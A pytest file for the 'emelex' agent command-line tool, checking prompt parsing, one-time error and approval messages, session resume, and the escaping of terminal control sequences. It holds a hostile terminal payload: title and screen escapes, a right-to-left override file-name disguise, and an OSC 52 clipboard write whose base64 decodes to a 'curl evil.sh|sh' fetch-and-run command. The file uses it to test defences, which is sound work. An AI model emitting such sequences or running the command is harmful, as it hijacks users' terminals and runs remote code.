"""``emelex run`` and ``emelex chat`` without traps: the prompt is never taken for a
package (nor a package for the prompt), nothing a model, file or server writes reaches
the terminal as a control sequence, and each failure or approval sentence shows once."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import trio

from tests.model.openai.fault_server import run_fault_server

from .test_cli import EMELEX, _read_until, run, script

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "actors" / "repo-reviewer"
#: A terminal title, a screen clear, an OSC 52 clipboard write of a command, and a
#: right-to-left override, as a model or a file could send them.
ATTACK = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\u202egnp.exe"
RAW = ("\x1b", "\x07", "\u202e")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.txt").write_text("hello notes\n")
    return ws


def test_a_package_directory_is_never_the_prompt(tmp_path: Path) -> None:
    spec = script(tmp_path, [[{"say": "never"}]])
    alone = run("run", "--model", spec, str(PACKAGE), cwd=tmp_path)
    assert alone.returncode == 2 and alone.stdout == ""
    assert (
        f"is an agent package, not a prompt; run it with: emelex run --agent {PACKAGE} PROMPT"
        in alone.stderr
    )
    before = run("run", "--model", spec, str(PACKAGE), "Review it.", cwd=tmp_path)
    assert before.returncode == 2 and before.stdout == ""
    assert f"emelex run --agent {PACKAGE} 'Review it.'" in before.stderr
    # Given with --agent, a package in the prompt's place is still refused.
    twice = run("run", "--model", spec, "--agent", str(PACKAGE), str(PACKAGE), cwd=tmp_path)
    assert twice.returncode == 2 and "is an agent package, not a prompt" in twice.stderr


def test_a_prompt_is_never_a_package_name(tmp_path: Path, workspace: Path) -> None:
    # Words that name packages elsewhere (or paths that do not exist) are prompts.
    for prompt in ("repo-reviewer", "actors/writer", "."):
        spec = script(tmp_path, [[{"say": "answered"}]], f"{len(prompt)}.json")
        result = run("run", "--json", "--model", spec, prompt, cwd=workspace)
        assert result.returncode == 0, result.stderr
        events = [json.loads(line) for line in result.stdout.splitlines()]
        assert "".join(e["text"] for e in events if e["event"] == "answer_delta") == "answered"


def test_unquoted_prompt_words_are_a_usage_error(tmp_path: Path, workspace: Path) -> None:
    spec = script(tmp_path, [[{"say": "never"}]])
    result = run("run", "--model", spec, "what", "is", "this", cwd=workspace)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr == (
        "emelex run: expected one PROMPT, got 3 arguments; quote the prompt: "
        "emelex run 'what is this'\n"
    )


def test_agent_option_runs_the_package(tmp_path: Path) -> None:
    spec = script(
        tmp_path, [[{"call": "list_directory", "arguments": {"path": "."}}], [{"say": "Done."}]]
    )
    result = run("run", "--model", spec, "--agent", str(PACKAGE), "Review it.", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "Done."
    missing = run("run", "--model", spec, "--agent", str(tmp_path / "nope"), "x", cwd=tmp_path)
    assert missing.returncode == 3 and "cannot run the agent package" in missing.stderr
    help_text = run("run", "--help", cwd=tmp_path).stdout
    assert "--agent DIR" in help_text and "PROMPT" in help_text
    assert "PROMPT ..." not in help_text  # one prompt, nothing else


def test_model_and_file_text_reach_the_terminal_neutralized(
    tmp_path: Path, workspace: Path
) -> None:
    # A file name is text a file system wrote: list_directory shows it.
    (workspace / "\x1b]0;pwned\x07\u202egnp.exe").write_text("x")
    spec = script(
        tmp_path,
        [
            [
                {"think": f"thinking {ATTACK}"},
                {"call": "list_directory", "arguments": {"path": "."}},
                {"call": f"tool{ATTACK}", "arguments": {"x": ATTACK}},
            ],
            [{"say": f"answer {ATTACK}"}],
        ],
    )
    result = run("run", "--model", spec, "--allow-reads", "x", cwd=workspace)
    assert result.returncode == 0, result.stderr
    for raw in RAW:
        assert raw not in result.stdout and raw not in result.stderr
    assert "answer \\x1b]0;pwned\\x07\\x1b[2J\\x1b]52;c;" in result.stdout
    assert "\\u202egnp.exe" in result.stdout
    assert "thinking \\x1b]0;pwned" in result.stderr  # reasoning
    assert "\\x1b]0;pwned\\x07\\u202egnp.exe" in result.stderr  # tool output
    assert "→ tool tool\\x1b]0;pwned" in result.stderr  # a tool name from the model
    assert "unknown tool 'tool\\x1b]0;pwned" in result.stderr  # an error message


def test_a_failure_is_reported_once(tmp_path: Path, workspace: Path) -> None:
    spec = script(tmp_path, [[{"say": "partial"}, {"fail": f"model broke {ATTACK}"}]])
    result = run("run", "--model", spec, "x", cwd=workspace)
    assert result.returncode == 1
    assert result.stderr.count("model broke") == 1, result.stderr
    assert not any(raw in result.stderr for raw in RAW)
    # --json has no renderer on stderr: the one line there says it.
    spec = script(tmp_path, [[{"fail": "model broke"}]], "j.json")
    as_json = run("run", "--json", "--model", spec, "x", cwd=workspace)
    assert as_json.returncode == 1
    assert as_json.stderr.count("model broke") == 1
    assert "turn_failed" in as_json.stdout


def test_a_package_failure_is_reported_once(tmp_path: Path) -> None:
    spec = script(tmp_path, [[{"fail": "model broke"}]])
    result = run("run", "--model", spec, "--agent", str(PACKAGE), "x", cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.count("model broke") == 1, result.stderr


def test_an_approval_sentence_is_shown_once(tmp_path: Path, workspace: Path) -> None:
    rounds = [
        [{"call": "write_file", "arguments": {"path": "out.txt", "content": "hi"}}],
        [{"say": "done"}],
    ]
    target = str(workspace / "out.txt")
    # Decided by a flag: the renderer shows the sentence.
    flagged = run(
        "run",
        "--model",
        script(tmp_path, rounds),
        "--allow-tool",
        "write_file",
        "x",
        cwd=workspace,
    )
    assert flagged.returncode == 0, flagged.stderr
    assert flagged.stderr.count(target) == 1, flagged.stderr
    # Asked on a terminal: the prompt shows it, the renderer does not repeat it.
    master, slave = os.openpty()
    process = subprocess.Popen(
        [*EMELEX, "run", "--model", script(tmp_path, rounds, "b.json"), "x"],
        cwd=workspace,
        stdin=slave,
        stdout=slave,
        stderr=slave,
        close_fds=True,
    )
    os.close(slave)
    try:
        import time

        deadline = time.monotonic() + 60
        seen = _read_until(master, b"[y/N]", deadline)
        os.write(master, b"y\n")
        seen += _read_until(master, b"done", deadline)
        assert process.wait(timeout=30) == 0
    finally:
        os.close(master)
        if process.poll() is None:
            process.kill()
    assert seen.count(target.encode()) == 1, seen.decode(errors="replace")


def test_sessions_show_neutralizes_stored_text(tmp_path: Path, workspace: Path) -> None:
    store = str(tmp_path / "s.db")
    spec = script(tmp_path, [[{"say": f"stored {ATTACK}"}]])
    chat = run("chat", "--model", spec, "--store", store, cwd=workspace, stdin=f"hi {ATTACK}\n")
    assert chat.returncode == 0, chat.stderr
    assert not any(raw in chat.stdout + chat.stderr for raw in RAW)
    listing = run("sessions", "list", "--store", store, cwd=workspace)
    (session_id,) = [line.split()[0] for line in listing.stdout.splitlines()]
    assert not any(raw in listing.stdout for raw in RAW)
    shown = run("sessions", "show", session_id, "--store", store, cwd=workspace)
    assert shown.returncode == 0
    assert not any(raw in shown.stdout for raw in RAW)
    assert "stored \\x1b]0;pwned\\x07" in shown.stdout and "hi \\x1b]0;pwned" in shown.stdout
    exported = json.loads(
        run("sessions", "export", session_id, "--store", store, cwd=workspace).stdout
    )
    # The export is data, not terminal text: exact, JSON-escaped on the wire.
    assert exported["messages"][1]["data"]["content"][0]["text"] == f"stored {ATTACK}"


def test_resume_says_which_stored_settings_it_keeps(tmp_path: Path, workspace: Path) -> None:
    store = str(tmp_path / "s.db")
    spec = script(tmp_path, [[{"say": "one"}]])
    first = run(
        "chat", "--model", spec, "--store", store, "--no-shell", cwd=workspace, stdin="hi\n"
    )
    assert first.returncode == 0, first.stderr
    listing = run("sessions", "list", "--json", "--store", store, cwd=workspace)
    session_id = json.loads(listing.stdout)["id"]
    resumed = run("chat", "--resume", session_id, "--store", store, cwd=tmp_path, stdin="again\n")
    # Nothing on the command line: every stored setting is kept, and said so.
    assert resumed.returncode == 0, resumed.stderr
    line = next(x for x in resumed.stderr.splitlines() if x.startswith("emelex: resuming"))
    assert line == (
        f"emelex: resuming {session_id}, keeping its stored settings: model {spec}, "
        f"workspace {workspace.resolve()}, no shell, with file tools"
    )
    other = script(tmp_path, [[{"say": "two"}]], "other.json")
    replaced = run(
        "chat",
        "--resume",
        session_id,
        "--store",
        store,
        "--model",
        other,
        cwd=workspace,
        stdin="again\n",
    )
    assert replaced.returncode == 0, replaced.stderr
    assert "two" in replaced.stdout
    line = next(x for x in replaced.stderr.splitlines() if x.startswith("emelex: resuming"))
    assert f"workspace {workspace.resolve()}, no shell" in line
    assert line.endswith(f"; from the command line: model {other} (stored: {spec})")


async def test_a_404_without_v1_suggests_it_on_the_command_line(tmp_path: Path) -> None:
    async with run_fault_server() as server:
        base = server.root + "/needs-v1"
        with trio.fail_after(60):
            result = await trio.run_process(
                [*EMELEX, "run", "--model", "openai:m", "--base-url", base, "--no-shell", "x"],
                cwd=tmp_path,
                capture_stdout=True,
                capture_stderr=True,
                check=False,
                stdin=b"",
                env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
            )
    stderr = result.stderr.decode()
    assert result.returncode == 1, stderr
    assert stderr.count("HTTP 404") == 1, stderr
    assert f"try {base}/v1" in stderr
